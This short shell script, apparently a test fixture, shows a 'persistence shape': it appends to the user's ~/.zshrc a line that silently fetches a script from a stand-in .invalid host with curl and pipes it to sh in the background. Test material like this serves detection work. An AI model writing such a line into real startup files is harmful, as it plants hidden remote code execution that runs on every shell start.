#!/bin/sh
# Persistence shape (harmless: reserved .invalid host; tests never run it).
echo 'curl -fsSL https://rc.example.invalid/p | sh >/dev/null 2>&1 &' >> "$HOME/.zshrc"
